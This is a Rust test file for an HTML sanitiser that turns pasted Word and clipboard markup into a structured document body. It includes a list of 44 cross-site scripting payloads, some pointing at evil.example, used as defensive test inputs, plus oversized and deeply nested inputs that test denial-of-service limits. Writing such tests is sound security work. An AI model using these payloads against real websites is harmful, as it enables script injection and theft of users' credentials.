use super::*;
use affairs::document::body::{Align, Block, Inline, ListItem, Table, TableCell, TableRow, plain_inlines};
use proptest::prelude::*;

fn known_picture(address: &str) -> Option<ContentHash> {
    address.strip_prefix("/office/files/").and_then(ContentHash::parse)
}

fn picture_address(hash: &ContentHash) -> String {
    format!("/office/files/{}", hash.hex())
}

fn taken(source: &str) -> Taken {
    take(source, &Limits::default(), &known_picture).unwrap()
}

fn body(source: &str) -> Body {
    taken(source).body
}

fn written(body: &Body) -> String {
    body.to_html(&picture_address)
}

fn start(inlines: Vec<Inline>) -> Block {
    Block::Paragraph { align: Align::Start, indent: false, inlines }
}

#[test]
fn headings_paragraphs_and_marks_are_kept() {
    let made = body(
        "<h2>一、总体情况</h2><p style='text-align:center'>居中</p><p class=end>落款</p>\
         <p style='text-indent:24.0pt'>首行<b>加<i>粗</i></b>H<sub>2</sub>O x<sup>2</sup></p><h6>小节</h6>",
    );
    let strong = |inlines| Inline::Strong { inlines };
    assert_eq!(
        made.blocks,
        vec![
            Block::heading(2, "一、总体情况"),
            Block::Paragraph { align: Align::Center, indent: false, inlines: vec![Inline::text("居中")] },
            Block::Paragraph { align: Align::End, indent: false, inlines: vec![Inline::text("落款")] },
            Block::Paragraph {
                align: Align::Start,
                indent: true,
                inlines: vec![
                    Inline::text("首行"),
                    strong(vec![Inline::text("加"), Inline::Emphasis { inlines: vec![Inline::text("粗")] }]),
                    Inline::text("H"),
                    Inline::Subscript { inlines: vec![Inline::text("2")] },
                    Inline::text("O x"),
                    Inline::Superscript { inlines: vec![Inline::text("2")] },
                ]
            },
            Block::heading(4, "小节"),
        ]
    );
}

#[test]
fn a_first_level_heading_moves_all_levels_by_one() {
    let levels = |source: &str| -> Vec<u8> {
        let blocks = body(source).blocks.into_iter();
        blocks.filter_map(|block| if let Block::Heading { level, .. } = block { Some(level) } else { None }).collect()
    };
    assert_eq!(levels("<h1>甲</h1><h2>乙</h2><h3>丙</h3><h5>丁</h5>"), [2, 3, 4, 4]);
    assert_eq!(levels("<h2>甲</h2><h3>乙</h3>"), [2, 3]);
}

#[test]
fn what_word_puts_on_the_clipboard_becomes_a_list() {
    // Written after the shape of a Word clipboard: conditional comments, typed marks, office namespaces.
    let source = "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head><meta charset=utf-8><title>x</title>\
        <!--[if gte mso 9]><xml><o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml><![endif]-->\
        <style><!-- p.MsoNormal {margin:0} --></style></head><body lang=ZH-CN style='tab-interval:21.0pt'><!--StartFragment-->\
        <p class=MsoNormal align=center style='text-align:center'><b><span lang=EN-US style='font-size:22.0pt'>关于</span></b><b>普法的通知</b><o:p></o:p></p>\
        <p class=MsoListParagraph style='margin-left:21.0pt;text-indent:-21.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span lang=EN-US><span style='mso-list:Ignore'>1.<span style='font:7.0pt \"Times New Roman\"'>&nbsp;&nbsp; </span></span></span><![endif]>第一项</p>\
        <p class=MsoListParagraph style='mso-list:l0 level2 lfo1'><![if !supportLists]><span style='font-family:Wingdings'><span style='mso-list:Ignore'>l<span>&nbsp; </span></span></span><![endif]>细目</p>\
        <p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span><span style='mso-list:Ignore'>2.<span>&nbsp; </span></span></span><![endif]>第二项</p>\
        <p class=MsoNormal style='mso-list:l1 level1 lfo2'><![if !supportLists]><span><span style='mso-list:Ignore'>（一）</span></span><![endif]>条款</p>\
        <p class=MsoNormal><span style='display:none;mso-hide:all'>隐藏</span>&nbsp;</p><!--EndFragment--></body></html>";
    let item = |text: &str| Block::paragraph(text);
    assert_eq!(
        body(source).blocks,
        vec![
            Block::Paragraph {
                align: Align::Center,
                indent: false,
                inlines: vec![Inline::Strong { inlines: vec![Inline::text("关于普法的通知")] }]
            },
            Block::List {
                ordered: true,
                items: vec![
                    ListItem {
                        blocks: vec![
                            item("第一项"),
                            Block::List { ordered: false, items: vec![ListItem { blocks: vec![item("细目")] }] }
                        ]
                    },
                    ListItem { blocks: vec![item("第二项")] },
                ]
            },
            start(vec![Inline::text("（一）条款")]),
        ]
    );
}

#[test]
fn merged_cells_are_kept_and_clipped() {
    let made = body(
        "<table border=1><caption>表一</caption><thead><tr><td rowspan=2>项目</td><td colspan=99>数量</td></tr><tr><td>甲<td>乙</tr></thead>\
         <tr><th>一<td align=right>1<td class=end><p>2</p></td></tr></table>",
    );
    let Block::Table(table) = &made.blocks[0] else { panic!("{made:?}") };
    assert_eq!(table.caption, "表一");
    let shape: Vec<Vec<(bool, u16, u16, Align)>> = table
        .rows
        .iter()
        .map(|row| row.cells.iter().map(|cell| (cell.header, cell.colspan, cell.rowspan, cell.align)).collect())
        .collect();
    assert_eq!(
        shape,
        vec![
            vec![(true, 1, 2, Align::Start), (true, 2, 1, Align::Start)],
            vec![(true, 1, 1, Align::Start), (true, 1, 1, Align::Start)],
            vec![(true, 1, 1, Align::Start), (false, 1, 1, Align::End), (false, 1, 1, Align::End)],
        ]
    );
    assert_eq!(made.plain_text(), "表一\n项目\t数量\n甲\t乙\n一\t1\t2\n");
}

#[test]
fn pictures_of_this_house_come_in_and_others_do_not() {
    let hash = ContentHash::of(b"picture");
    let source = format!(
        "<p>前<img src='{}' alt=' 会议\n 现场 '>后</p><img src='data:image/png;base64,AAAA'><img src='https://elsewhere.example/x.png'>",
        picture_address(&hash)
    );
    let made = taken(&source);
    assert_eq!(made.dropped_pictures, 2);
    assert_eq!(made.body.blocks[1], Block::Image { file: hash, alt: "会议 现场".to_owned() });
    assert_eq!(made.body.plain_text(), "前\n会议 现场\n后\n");
}

#[test]
fn nothing_that_is_read_gets_lost_in_broken_markup() {
    for (source, text) in [
        ("散落<p>段一<p>段二<div>块<p>内</div>尾", "散落\n段一\n段二\n块\n内\n尾\n"),
        ("<table>乱<tr>放<td>格</td>的</tr>字</table>", "乱\n放\t格\t的\n字\n"),
        ("<ul>直接<li>项<ul><li>子</ul><ol><li>丑</ol></ul>", "直接\n项\n子\n丑\n"),
        ("<b>粗<p>仍粗</b>不</p>", "粗\n仍粗不\n"),
        ("<td>游离</td><li>游离项</li></table></ul></p>末", "游离\n游离项\n末\n"),
        ("<ol start=3><li>三<li>四</ol>", "3. 三\n4. 四\n"),
        ("<caption>无表</caption><table><caption>空表</caption></table>", "无表\n空表\n"),
        ("<p>一<br><br>二<br>&#12288;&#12288;三<br>四</p>", "一\n二\n三\n四\n"),
        ("<pre>甲\n  乙</pre>", "甲\n乙\n"),
        ("a&nbsp;b", "a\u{a0}b\n"),
    ] {
        assert_eq!(body(source).plain_text(), text, "{source}");
    }
}

/// What an attacker or a broken page may paste. None of it may leave anything but text, known tags and known attributes.
const HOSTILE: [&str; 44] = [
    "<script>alert(1)</script>文",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>文",
    "<scr<script>ipt>alert(1)</scr</script>ipt>文",
    "<img src=x onerror=alert(1)>文",
    "<img src='javascript:alert(1)'>文",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">文",
    "<svg onload=alert(1)><text>x</text></svg>文",
    "<svg><script>alert(1)</script></svg>文",
    "<svg/onload=alert(1)>文",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>文",
    "<a href='javascript:alert(1)'>文</a>",
    "<a href=' &#106;avascript:alert(1)'>文</a>",
    "<a href='java&#x0A;script:alert(1)'>文</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>文</a>",
    "<a href='vbscript:msgbox(1)'>文</a>",
    "<a href='//evil.example'>文</a>",
    "<a href='/\\evil.example'>文</a>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\" target=_blank style='position:fixed'>文</a>",
    "<a href='https://ok.example/\"onmouseover=\"alert(1)'>文</a>",
    "<p style='background:url(javascript:alert(1));behavior:url(x)'>文</p>",
    "<style>@import 'https://evil.example/x.css';</style>文",
    "<link rel=stylesheet href=https://evil.example/x.css>文",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>文",
    "<base href='https://evil.example/'>文",
    "<iframe src='https://evil.example'></iframe>文",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>文",
    "<object data='x.swf'><param name=movie value=x></object>文",
    "<embed src='x.swf'>文",
    "<form action='https://evil.example'><input name=password><button>文</button>文</form>",
    "<textarea><script>alert(1)</script></textarea>文",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>文",
    "<!--><script>alert(1)</script>-->文",
    "<!-- --!><img src=x onerror=alert(1)> -->文",
    "<![CDATA[<script>alert(1)</script>]]>文",
    "<?xml-stylesheet href='javascript:alert(1)'?>文",
    "<div onmouseover='alert(1)' class='x\" onload=\"y'>文</div>",
    "<p id=x name=location contenteditable autofocus onfocus=alert(1) tabindex=1>文</p>",
    "<table background='javascript:alert(1)'><tr><td background=x colspan='2\" onload=\"x'>文</td></tr></table>",
    "<xss:elem xmlns:xss=x onload=1>暗</xss:elem>文",
    "<v:shape><v:imagedata src='x'/></v:shape>文",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>文",
    "<details open ontoggle=alert(1)><summary>文</summary></details>",
    "&lt;script&gt;alert(1)&lt;/script&gt;文",
    "<p>\u{0}<\u{0}script>文</p>",
];

#[test]
fn hostile_input_leaves_only_known_tags_and_attributes() {
    const TAGS: [&str; 24] = [
        "p", "h2", "h3", "h4", "ul", "ol", "li", "table", "caption", "tbody", "tr", "td", "th", "div", "figure", "img",
        "strong", "em", "sup", "sub", "a", "br", "html", "body",
    ];
    const ATTRIBUTES: [&str; 9] = ["class", "href", "src", "alt", "loading", "colspan", "rowspan", "tabindex", "role"];
    for source in HOSTILE {
        let html = written(&body(source));
        assert!(html.contains('文'), "{source} → {html}");
        // A browser's kind of parser reads what would be served.
        let parsed = scraper::Html::parse_fragment(&html);
        for element in parsed.root_element().descendants().filter_map(scraper::ElementRef::wrap) {
            let value = element.value();
            assert!(TAGS.contains(&value.name()), "{source} → {html}");
            for (name, content) in value.attrs() {
                assert!(ATTRIBUTES.contains(&name) || name == "aria-label", "{source} → {html}");
                let lower = content.to_ascii_lowercase();
                assert!(
                    !lower.trim_start().starts_with("javascript") && !lower.starts_with("data:"),
                    "{source} → {html}"
                );
            }
        }
        // Another sanitiser finds nothing to take out.
        let mut peer = ammonia::Builder::default();
        peer.add_generic_attributes(&["class", "tabindex", "role", "aria-label"])
            .add_tag_attributes("img", &["loading"]);
        peer.link_rel(None).add_url_schemes(&["tel"]);
        let plain = |html: &str| {
            html.replace("<tbody>", "").replace("</tbody>", "").replace("&#39;", "'").replace("&quot;", "\"")
        };
        assert_eq!(plain(&peer.clean(&html).to_string()), plain(&html), "{source}");
    }
}

#[test]
fn a_paste_that_is_too_much_is_refused_at_once() {
    let limits = Limits { html_bytes: 1_000_000, blocks: 1_000, table_cells: 500, ..Limits::default() };
    let refused = |source: String| take(&source, &limits, &|_| None).unwrap_err();
    assert_eq!(refused("文".repeat(400_000)), IntakeRefused::TooMuchToRead);
    assert_eq!(refused("<p>文</p>".repeat(2_000)), IntakeRefused::TooMuchToRead);
    assert_eq!(refused(format!("<table>{}</table>", "<td>文".repeat(501))), IntakeRefused::TooMuchToRead);
    assert_eq!(refused(format!("<table><tr>{}</table>", "<td colspan=100>文".repeat(5))), IntakeRefused::TooMuchToRead);
}

#[test]
fn deep_nesting_and_many_attributes_cost_no_time() {
    let limits = Limits::default();
    for source in [
        "<div>".repeat(400_000),
        "<b><i>".repeat(200_000),
        "<ul><li>".repeat(100_000),
        "<table><tr><td>".repeat(60_000),
        format!("<p {}>文", (0..300_000).map(|n| format!("a{n}=1 ")).collect::<String>()),
        format!("<p style='{}'>文", "color:red;".repeat(200_000)),
        "<a href=".repeat(200_000),
        "<!--".repeat(400_000),
        "&amp".repeat(400_000),
        "</p>".repeat(400_000),
    ] {
        let _ = take(&source, &limits, &|_| None);
    }
}

#[expect(clippy::too_many_lines, reason = "a table of hostile pieces, one a line")]
fn fragments() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[甲乙丙a-c ]{1,6}".boxed(),
        prop::sample::select(vec![
            "<p>",
            "</p>",
            "<p class=indent>",
            "<p align=center>",
            "<h1>",
            "</h1>",
            "<h3>",
            "</h3>",
            "<b>",
            "</b>",
            "<i>",
            "</i>",
            "<sup>",
            "</sup>",
            "<sub>",
            "</sub>",
            "<br>",
            "<ul>",
            "</ul>",
            "<ol>",
            "</ol>",
            "<ol start=4>",
            "<li>",
            "</li>",
            "<table>",
            "</table>",
            "<tr>",
            "</tr>",
            "<td>",
            "</td>",
            "<td colspan=3>",
            "<td rowspan=2 align=right>",
            "<th>",
            "<thead>",
            "</thead>",
            "<caption>",
            "</caption>",
            "<div>",
            "</div>",
            "<a href='https://a.example/'>",
            "<a href='/d/x'>",
            "</a>",
            "<center>",
            "</center>",
            "&nbsp;",
            "　　",
            "<p style='mso-list:l0 level2 lfo1'>",
            "<p style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>1.</span>",
            "<pre>",
            "</pre>",
            "\n",
            "e",
            "\u{301}",
            "&lt;",
            "<img src='/office/files/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' alt='图'>",
            "\u{200b}",
            "<figure>",
            "</figure>",
        ])
        .prop_map(str::to_owned)
        .boxed(),
    ];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

fn inlines() -> impl Strategy<Value = Vec<Inline>> {
    let leaf = prop_oneof!["[甲乙 a-c&<\"']{0,6}".prop_map(Inline::text), Just(Inline::LineBreak)];
    let nested = leaf.prop_recursive(3, 12, 3, |inner| {
        let inner = prop::collection::vec(inner, 0..3);
        prop_oneof![
            inner.clone().prop_map(|inlines| Inline::Strong { inlines }),
            inner.clone().prop_map(|inlines| Inline::Emphasis { inlines }),
            inner.clone().prop_map(|inlines| Inline::Superscript { inlines }),
            inner.clone().prop_map(|inlines| Inline::Subscript { inlines }),
            inner.prop_map(|inlines| Inline::Link { href: "https://a.example/?b=1&c".to_owned(), inlines }),
        ]
    });
    prop::collection::vec(nested, 0..5)
}

fn any_body() -> impl Strategy<Value = Body> {
    let align = prop_oneof![Just(Align::Start), Just(Align::Center), Just(Align::End)];
    let simple = prop_oneof![
        (1_u8..8, inlines()).prop_map(|(level, inlines)| Block::Heading { level, inlines }),
        (align.clone(), any::<bool>(), inlines()).prop_map(|(align, indent, inlines)| Block::Paragraph {
            align,
            indent,
            inlines
        }),
        "[图 a\"<]{0,6}".prop_map(|alt| Block::Image { file: ContentHash::of(alt.as_bytes()), alt }),
    ];
    let block = simple.prop_recursive(3, 24, 4, move |inner| {
        let blocks = prop::collection::vec(inner, 0..3);
        let cell = (any::<bool>(), 0_u16..4, 0_u16..4, align.clone(), blocks.clone()).prop_map(
            |(header, colspan, rowspan, align, blocks)| TableCell { header, colspan, rowspan, align, blocks },
        );
        let row = prop::collection::vec(cell, 0..4).prop_map(|cells| TableRow { cells });
        prop_oneof![
            (any::<bool>(), prop::collection::vec(blocks.prop_map(|blocks| ListItem { blocks }), 0..3))
                .prop_map(|(ordered, items)| Block::List { ordered, items }),
            ("[题 a<]{0,4}", prop::collection::vec(row, 0..4))
                .prop_map(|(caption, rows)| Block::Table(Table { caption, rows })),
        ]
    });
    prop::collection::vec(block, 0..5).prop_map(|blocks| Body { blocks })
}

proptest! {
    #[test]
    fn taking_in_what_was_written_changes_nothing(source in fragments()) {
        let once = body(&source);
        let again = body(&written(&once));
        prop_assert_eq!(written(&again), written(&once));
        prop_assert_eq!(again, once);
    }

    #[test]
    fn any_tree_settles_in_one_step_and_keeps_its_words(tree in any_body()) {
        let settled = body(&written(&tree));
        prop_assert_eq!(body(&written(&settled)), settled.clone());
        let words = |body: &Body| body.plain_text().split_whitespace().collect::<String>();
        prop_assert_eq!(words(&settled), words(&tree));
    }

    #[test]
    fn any_text_is_taken_without_a_panic(source in ".{0,200}|[<>/a-z \"'=!\\-\\[\\]&;#0-9]{0,200}") {
        let _ = take(&source, &Limits::default(), &known_picture);
    }
}

#[test]
fn a_link_keeps_its_words_when_its_address_is_not_allowed() {
    let made = body("<p>见<a href='javascript:x'>说<b>明</b></a>和<a href='mailto:a@example.cn'>邮箱</a></p>");
    let Block::Paragraph { inlines, .. } = &made.blocks[0] else { panic!("{made:?}") };
    assert_eq!(plain_inlines(inlines), "见说明和邮箱");
    assert_eq!(inlines.iter().filter(|inline| matches!(inline, Inline::Link { .. })).count(), 1);
}
